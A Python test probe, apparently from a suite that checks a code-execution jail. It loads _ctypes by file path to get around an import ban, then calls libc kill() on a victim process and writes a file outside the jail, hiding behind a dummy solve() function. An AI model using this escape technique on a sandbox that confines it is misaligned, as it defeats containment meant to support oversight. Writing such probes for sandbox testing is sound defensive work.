"""Load the _ctypes extension by file path (no ``import ctypes``), dlopen libc and call kill() on the victim
and open() outside: native code is allowed in the jail, so only what it reaches outside counts."""
# tags: escape
import glob, importlib.machinery, importlib.util, sys
for path in glob.glob(sys.base_prefix + "/lib/python3*/lib-dynload/_ctypes*.so") + \
        glob.glob("/usr/lib/python3*/lib-dynload/_ctypes*.so"):
    try:
        loader = importlib.machinery.ExtensionFileLoader("_ctypes", path)
        spec = importlib.util.spec_from_file_location("_ctypes", path, loader=loader)
        mod = importlib.util.module_from_spec(spec)
        loader.exec_module(mod)
        import ctypes
        libc = ctypes.CDLL("libc.so.6")
        if libc.kill(VICTIM_PID, 0) == 0:
            escaped("libc kill() reached the victim")
        if libc.open((WATCHED + "/ctypes-" + TOKEN).encode(), 0o101, 0o644) >= 0:
            escaped("libc open() wrote outside")
        break
    except Exception:
        pass
def solve(x):
    return x
